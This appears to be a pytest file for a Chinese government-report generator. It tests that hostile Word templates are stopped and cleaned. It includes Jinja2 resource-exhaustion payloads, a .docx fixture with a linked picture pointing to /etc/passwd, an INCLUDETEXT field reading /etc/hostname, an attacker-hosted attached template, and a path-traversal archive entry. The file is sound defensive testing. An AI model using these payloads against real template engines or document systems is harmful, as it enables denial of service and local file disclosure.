"""Hostile and broken templates: runaway and oversized work is stopped (in the sandbox, and from outside it),
runtime failures are template errors with their place, nothing outside the template reaches a report,
and damaged templates get their own Chinese message."""

from __future__ import annotations

import io
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from builders import ROOT, valid_report, write_json
from click.testing import CliRunner
from docx import Document

from generator.cli import cli
from generator.model import make_report
from generator.publish import isolate, sandbox
from generator.publish import lint as lint_module
from generator.publish.lint import lint
from generator.publish.render import prepare, render_bytes
from generator.publish.templates import default_template_path

SEED = ROOT / "inputs" / "seed.json"
SAMPLE_AGENCY = "示例县示例镇人民政府"  # lint's sample report; a real input has another name


def only_with_real_data(tag: str) -> str:
    """A tag that lint's sample report skips: only a real input runs it."""
    return "{% if agency != '" + SAMPLE_AGENCY + "' %}" + tag + "{% endif %}"


def small_template(tmp_path: Path, *paragraphs: str, name: str = "t.docx") -> Path:
    """A small template (fast to check): the agency, then the given paragraphs."""
    document = Document()
    document.add_paragraph("{{ agency }}")
    for text in paragraphs:
        document.add_paragraph(text)
    path = tmp_path / name
    document.save(str(path))
    return path


def error_codes(path: Path) -> list[str]:
    return [issue.code for issue in lint(path).result.errors]


ATTACKS = {
    "nested-loops-without-calls": "{% set r = range(10000) %}{% for i in r %}{% for j in r %}{% for k in r %}{% endfor %}{% endfor %}{% endfor %}",
    "power-tower": "{{ ((((9**99)**99)**99)**99) }}",
    "center-filter": "{{ 'a'|center(3000000000) }}",
    "printf-width": "{{ '%3000000000s' % 'a' }}",
    "printf-star-width": "{{ '%*s' % (3000000000, 'a') }}",
    "zfill-method": "{{ 'a'.zfill(3000000000) }}",
    "ljust-on-markup": "{{ (agency|e).ljust(3000000000) }}",
    "indent-filter": "{{ agency|indent(3000000000, true) }}",
    "batch-filter": "{{ [1]|batch(3000000000, 0)|list }}",
    "format-width": "{{ '{0:>3000000000}'.format(1) }}",
    "format-nested-width": "{{ '{0:>{1}}'.format(1, 3000000000) }}",
    "format-through-attr": "{{ ('{0:>3000000000}'|attr('format'))(1) }}",
    "format-filter": "{{ '%3000000000s'|format('a') }}",
    "chained-repeat": "{{ 'a'*10000*10000*100 }}",
    "repeat-a-big-list": "{% set big = 'a' * 1000 * 1000 %}{{ [big] * 1000 }}",
    "doubling-concatenation": "{% set ns = namespace(s='a') %}{% for i in range(100) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
    "doubling-plus": "{% set ns = namespace(s='a') %}{% for i in range(100) %}{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s|length }}",
    "replace-amplifies": "{% set s = 'a' * 1000 * 100 %}{{ s.replace('a', s)|length }}",
    "join-amplifies": "{% set s = 'a' * 1000 * 100 %}{{ [s, s, s, s, s, s, s, s, s, s, s]|join|length }}",
    "many-moderate-values": "{{ range(10000)|map('center', 1000000)|list|length }}",
    "int-to-bytes": "{{ (1).to_bytes(3000000000, 'big')|length }}",
    "tojson-indent": "{{ {'a': [1]}|tojson(3000000000) }}",
    "output-flood": "{% set line = 'a' * 1000 * 900 %}{% for i in range(1000) %}{{ line }}{% endfor %}",
}


@pytest.mark.parametrize("tag", ATTACKS.values(), ids=list(ATTACKS))
def test_runaway_and_oversized_templates_are_stopped_by_template_check(tmp_path: Path, tag: str) -> None:
    """Each is stopped inside the sandbox, at once and with its place (not by the kill at the deadline)."""
    errors = lint(small_template(tmp_path, tag)).result.errors
    assert [issue.code for issue in errors] == ["template-runaway"]
    assert errors[0].where.startswith("正文")
    assert "强制停止" not in errors[0].message


def test_loops_without_calls_count_as_steps(tmp_path: Path) -> None:
    errors = lint(small_template(tmp_path, ATTACKS["nested-loops-without-calls"])).result.errors
    assert "步数超过 2,000,000" in errors[0].message
    assert errors[0].where.startswith("正文第 2 段")


def test_the_stop_names_the_paragraph_and_build_refuses_the_template(tmp_path: Path, runner: CliRunner) -> None:
    path = small_template(tmp_path, "前言", ATTACKS["power-tower"])
    issue = lint(path).result.errors[0]
    assert "正文第 3 段" in issue.message
    assert "乘方" in issue.message
    checked = runner.invoke(cli, ["template", "check", str(path)])
    assert checked.exit_code == 1
    assert "template-runaway" in runner.invoke(cli, ["template", "check", str(path), "--json"]).stdout
    out = tmp_path / "r.docx"
    built = runner.invoke(cli, ["build", str(SEED), "--template", str(path), "-o", str(out)])
    assert built.exit_code == 2
    assert built.stderr.startswith("无法执行：模板“t.docx”有问题，未使用")
    assert not out.exists()


def test_lipsum_is_not_available(tmp_path: Path) -> None:
    assert error_codes(small_template(tmp_path, "{{ lipsum(3000000000) }}")) == ["template-unknown-variable"]


def test_lists_cannot_be_grown_in_place(tmp_path: Path) -> None:
    tag = "{% set items = [1] %}{% for i in range(60) %}{{ items.extend(items) }}{% endfor %}"
    assert error_codes(small_template(tmp_path, tag)) == ["template-unsafe"]


def test_too_many_tags_or_too_deep_nesting_is_too_complex(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    deep = "{{ " + "(" * 400 + "1" + ")" * 400 + " }}"
    assert error_codes(small_template(tmp_path, deep)) == ["template-too-complex"]
    nested_loops = "".join(f"{{% for x{n} in [1] %}}" for n in range(25)) + "{% endfor %}" * 25
    assert error_codes(small_template(tmp_path, nested_loops, name="loops.docx")) == ["template-too-complex"]
    monkeypatch.setattr(sandbox, "MAX_TAGS", 3)
    path = small_template(tmp_path, "{{ year }}", "{{ date }}", "{{ agency }}", name="many.docx")
    result = lint(path).result
    assert [issue.code for issue in result.errors] == ["template-too-complex"]
    assert "4 个标签" in result.errors[0].message


def test_a_hole_in_the_sandbox_is_still_stopped_from_outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Were loops not counted, the child process running the check is killed at the deadline."""
    monkeypatch.setattr(sandbox.ReportEnvironment, "tick", lambda self: None)
    monkeypatch.setattr(lint_module, "RENDER_SECONDS", 1.0)
    monkeypatch.setattr(isolate, "GRACE_SECONDS", 0.5)
    issues = lint(small_template(tmp_path, ATTACKS["nested-loops-without-calls"])).result.errors
    assert [issue.code for issue in issues] == ["template-runaway"]
    assert "运行超过 1 秒，已强制停止" in issues[0].message


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_AS is enforced on Linux")
def test_a_hole_in_the_size_checks_meets_the_memory_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_check_repeat", lambda left, right: None)
    issues = lint(small_template(tmp_path, "{{ ('a' * 3000000000)|length }}")).result.errors
    assert [issue.code for issue in issues] == ["template-runaway"]
    assert "内存" in issues[0].message


def test_isolated_call_returns_raises_and_stops(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(isolate, "GRACE_SECONDS", 0.1)
    assert isolate.call(divmod, 7, 2, seconds=5) == (3, 1)
    with pytest.raises(ZeroDivisionError):
        isolate.call(divmod, 1, 0, seconds=5)
    with pytest.raises(isolate.Stopped, match="强制停止"):
        isolate.call(_sleep_forever, seconds=0.2)


def _sleep_forever() -> None:
    import time

    time.sleep(3600)


# --- runtime failures with real data: template errors with their place, in build and bulk ----------------


def test_division_by_zero_is_a_located_template_error(tmp_path: Path) -> None:
    issues = lint(small_template(tmp_path, "前言", "{{ requests.new.total / 0 }}")).result.errors
    assert [issue.code for issue in issues] == ["template-runtime-error"]
    assert "除数为零" in issues[0].message
    assert "正文第 3 段" in issues[0].message


def test_failures_only_real_data_triggers_are_located_in_build_and_bulk(tmp_path: Path, runner: CliRunner) -> None:
    division = small_template(tmp_path, "前言", only_with_real_data("{{ 100 / requests.carried_over.total }}"))
    runaway = small_template(
        tmp_path,
        "{% set r = range(10000) %}" + only_with_real_data("{% for i in r %}{% for j in r %}{% endfor %}{% endfor %}"),
        name="loop.docx",
    )
    assert lint(division).result.ok
    assert lint(runaway).result.ok
    out = tmp_path / "r.docx"
    result = runner.invoke(cli, ["build", str(SEED), "--template", str(division), "-o", str(out)])
    assert result.exit_code == 2
    assert "除数为零" in result.stderr
    assert "正文第 3 段" in result.stderr
    assert not out.exists()
    result = runner.invoke(cli, ["build", str(SEED), "--template", str(runaway), "-o", str(out)])
    assert result.exit_code == 2
    assert "步数超过" in result.stderr
    assert not out.exists()
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    for name in ("a", "b"):
        write_json(inputs / f"{name}.json", valid_report())
    for jobs in ("1", "2"):
        reports = tmp_path / f"out{jobs}"
        result = runner.invoke(cli, ["bulk", str(inputs), "-o", str(reports), "--template", str(runaway), "-j", jobs])
        assert result.exit_code == 1
        assert result.stderr.count("步数超过") == 2
        assert result.stderr.count("正文第 2 段") == 2
        assert not list(reports.glob("*.docx"))


def test_an_undefined_name_is_the_template_s_fault_not_a_missing_custom_field(
    tmp_path: Path, runner: CliRunner
) -> None:
    path = small_template(tmp_path, only_with_real_data("{{ {'称呼': 1}.联系人 }}"))
    assert lint(path).result.ok
    out = tmp_path / "r.docx"
    result = runner.invoke(cli, ["build", str(SEED), "--template", str(path), "-o", str(out)])
    assert result.exit_code == 2
    assert "“联系人”不存在" in result.stderr
    assert "自定义字段" not in result.stderr
    assert not out.exists()


def test_a_custom_field_the_input_lacks_is_still_the_clerk_s(tmp_path: Path, runner: CliRunner) -> None:
    path = small_template(
        tmp_path, "{{ extra['联系人'] }}", "{% if extra.电话 is defined %}{{ extra.电话 }}{% endif %}"
    )
    out = tmp_path / "r.docx"
    result = runner.invoke(cli, ["build", str(SEED), "--template", str(path), "-o", str(out)])
    assert result.exit_code == 1
    assert "使用了自定义字段“联系人”" in result.stderr
    report = make_report(valid_report().values, valid_report().overview, {"联系人": "张三"})
    source = write_json(tmp_path / "r.json", report)
    assert runner.invoke(cli, ["build", str(source), "--template", str(path), "-o", str(out)]).exit_code == 0


def test_dict_methods_are_not_fields(tmp_path: Path) -> None:
    path = small_template(
        tmp_path,
        "{{ extra.get('联系人', '') }}",
        "{% for key, value in requests.new.items() %}{{ key }}{{ value }}{% endfor %}",
    )
    linted = lint(path)
    assert linted.extra_keys == ()
    assert linted.result.ok
    assert "get" not in linted.result.to_text()


def test_a_finished_report_is_not_a_template(tmp_path: Path, runner: CliRunner) -> None:
    report = tmp_path / "report.docx"
    assert runner.invoke(cli, ["build", str(SEED), "-o", str(report)]).exit_code == 0
    assert [issue.code for issue in lint(report).result.errors] == ["template-no-variables"]
    assert runner.invoke(cli, ["template", "check", str(report)]).exit_code == 1
    result = runner.invoke(cli, ["build", str(SEED), "--template", str(report), "-o", str(tmp_path / "again.docx")])
    assert result.exit_code == 2
    assert "没有任何数据变量" in result.stderr
    assert not (tmp_path / "again.docx").exists()


@pytest.mark.parametrize(
    ("tag", "shown"),
    [
        ("{% include 'other.docx' %}", "include"),
        ("{% import 'm' as m %}", "import"),
        ("{% extends 'base' %}", "extends"),
    ],
)
def test_include_import_and_extends_have_their_own_message(tmp_path: Path, tag: str, shown: str) -> None:
    issues = lint(small_template(tmp_path, tag)).result.errors
    assert [issue.code for issue in issues] == ["template-include"]
    assert f"{{% {shown} %}}" in issues[0].message
    assert "正文第 2 段" in issues[0].message


def test_a_macro_calling_itself_has_its_own_message(tmp_path: Path) -> None:
    tag = "{% macro again(n) %}{{ again(n + 1) }}{% endmacro %}{{ again(1) }}"
    issues = lint(small_template(tmp_path, tag)).result.errors
    assert [issue.code for issue in issues] == ["template-recursion"]
    assert "正文第 2 段" in issues[0].message


# --- damaged templates ----------------------------------------------------------------------------------


def rewritten(
    source: Path, target: Path, change: Callable[[str, bytes], bytes | None], *, stored: bool = False
) -> Path:
    """A copy of a .docx with each entry passed through `change` (None drops it)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            data = change(info.filename, old.read(info))
            if data is not None:
                new.writestr(info.filename, data, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return target


def damaged(tmp_path: Path, kind: str) -> Path:
    source = default_template_path()
    if kind == "missing-content-types":
        return rewritten(
            source, tmp_path / "t.docx", lambda name, data: None if name == "[Content_Types].xml" else data
        )
    if kind == "strict":
        strict = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
        transitional = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        return rewritten(source, tmp_path / "t.docx", lambda name, data: data.replace(transitional, strict))
    path = rewritten(source, tmp_path / "t.docx", lambda name, data: data, stored=True)
    blob = bytearray(path.read_bytes())
    if kind == "bad-crc":
        at = blob.index(b"<w:t>{{ year }}") + 5
        blob[at] ^= 0x01
    else:  # mark every entry encrypted, or packed with a method nobody supports
        field, value = (6, 0x0001) if kind == "encrypted" else (8, 99)
        for signature, offset in ((b"PK\x03\x04", field), (b"PK\x01\x02", field + 2)):
            for match in re.finditer(re.escape(signature), bytes(blob)):
                at = match.start() + offset
                old = int.from_bytes(blob[at : at + 2], "little")
                blob[at : at + 2] = (old | value if kind == "encrypted" else value).to_bytes(2, "little")
    path.write_bytes(bytes(blob))
    return path


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("bad-crc", "已损坏：其中的 word/document.xml 数据校验失败"),
        ("missing-content-types", "缺少 [Content_Types].xml"),
        ("strict", "Strict Open XML"),
        ("encrypted", "已加密"),
        ("unsupported-compression", "不支持的压缩方式"),
    ],
)
def test_damaged_templates_have_their_own_chinese_message(
    tmp_path: Path, runner: CliRunner, kind: str, message: str
) -> None:
    path = damaged(tmp_path, kind)
    for command in (["template", "check", str(path)], ["build", str(SEED), "--template", str(path)]):
        result = runner.invoke(cli, command)
        assert result.exit_code == 2
        assert message in result.stderr
        assert "内部错误" not in result.stderr


# --- nothing outside the template reaches a report ------------------------------------------------------

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINKED_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="77" name="linked"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="0" name="linked"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdLinked"/></pic:blipFill><pic:spPr/></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
INCLUDE_FIELDS = (
    '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://example.invalid/x.png&quot; \\d ">'
    "<w:r><w:t>图</w:t></w:r></w:fldSimple></w:p>"
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">TEXT "/etc/hostname" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧的结果</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
HYPERLINK = '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>政府网站</w:t></w:r></w:hyperlink></w:p>'


def relationship(rid: str, kind: str, target: str) -> bytes:
    return (
        f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'.encode()
    )


def reaching_out(tmp_path: Path, attached: str) -> Path:
    """The default template with a linked picture, include fields, an attached template, a hyperlink and
    entries that are not parts of a document."""

    def change(name: str, data: bytes) -> bytes:
        if name == "word/document.xml":
            return data.replace(b"</w:body>", (LINKED_PICTURE + INCLUDE_FIELDS + HYPERLINK).encode() + b"</w:body>")
        if name == "word/_rels/document.xml.rels":
            return data.replace(
                b"</Relationships>",
                relationship("rIdLinked", "image", "file:///etc/passwd")[: -len(b"</Relationships>")]
                + relationship("rIdWeb", "hyperlink", "http://www.gov.cn/"),
            )
        if name == "word/settings.xml":
            return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1)
        return data

    path = rewritten(default_template_path(), tmp_path / "outside.docx", change)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(
            "word/_rels/settings.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + relationship("rId1", "attachedTemplate", attached),
        )
        archive.writestr("../../evil.sh", b"#!/bin/sh\n")
        archive.writestr("payload.exe", b"MZ")
    return path


def test_external_references_are_refused_and_stripped_from_reports(tmp_path: Path) -> None:
    path = reaching_out(tmp_path, "http://attacker.invalid/normal.dotm")
    issues = lint(path).result.issues
    external = [issue.detail for issue in issues if issue.code == "template-external-link"]
    assert len(external) == 4
    assert any("链接的图片" in text and "file:///etc/passwd" in text for text in external)
    assert any("INCLUDEPICTURE 域" in text and "http://example.invalid/x.png" in text for text in external)
    assert any("INCLUDETEXT 域" in text and "/etc/hostname" in text for text in external)
    assert any("附加的模板" in text and "attacker.invalid" in text for text in external)
    assert not any("www.gov.cn" in issue.message for issue in issues)
    assert sorted(issue.where for issue in issues if issue.code == "template-foreign-part") == ["模板文件"] * 2

    with zipfile.ZipFile(io.BytesIO(render_bytes(prepare(path), _context()))) as report:
        names = report.namelist()
        everything = b"".join(report.read(name) for name in names)
    assert "../../evil.sh" not in names
    assert "payload.exe" not in names
    assert b'TargetMode="External"' in everything  # the hyperlink stays …
    assert everything.count(b'TargetMode="External"') == 1  # … and only it
    for gone in (
        b"/etc/passwd",
        b"r:link",
        b"INCLUDEPICTURE",
        b"INCLUDETEXT",
        b"attachedTemplate",
        b"attacker.invalid",
    ):
        assert gone not in everything
    assert "旧的结果".encode() in everything  # a field's last result is kept as text
    assert "政府网站".encode() in everything


def test_a_local_attached_template_is_only_a_warning(tmp_path: Path) -> None:
    path = reaching_out(tmp_path, "file:///C:/Users/clerk/AppData/Roaming/Microsoft/Templates/公文.dotx")
    issues = lint(path).result.issues
    assert [issue.code for issue in issues if issue.code.endswith("attached-template")] == [
        "template-attached-template"
    ]
    assert len([issue for issue in issues if issue.code == "template-external-link"]) == 3


def test_an_ordinary_template_is_copied_unchanged(tmp_path: Path) -> None:
    """Sanitising leaves a template without outside references byte for byte as it was."""
    from generator.publish.template_zip import read_entries, sanitize

    entries = read_entries(default_template_path())
    assert sanitize(entries) == entries


def _context() -> dict[str, object]:
    from generator.publish.context import build_context

    return build_context(valid_report())
